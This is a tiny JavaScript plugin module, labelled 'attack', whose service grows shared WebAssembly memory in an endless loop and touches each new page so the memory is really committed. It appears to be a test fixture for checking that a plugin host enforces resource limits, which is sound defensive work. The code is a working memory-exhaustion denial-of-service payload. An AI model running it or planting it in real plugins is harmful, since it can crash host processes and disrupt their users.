export default {
  metadata: { id: "attack", version: "1.0.0" },
  onLoad(context) {
    context.services.provide("attack", {
      run() {
        const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536, shared: true });
        for (;;) {
          memory.grow(256);
          const bytes = new Uint8Array(memory.buffer);
          for (let at = bytes.length - 2 ** 24; at < bytes.length; at += 4096) bytes[at] = 1;
        }
      },
    });
  },
};
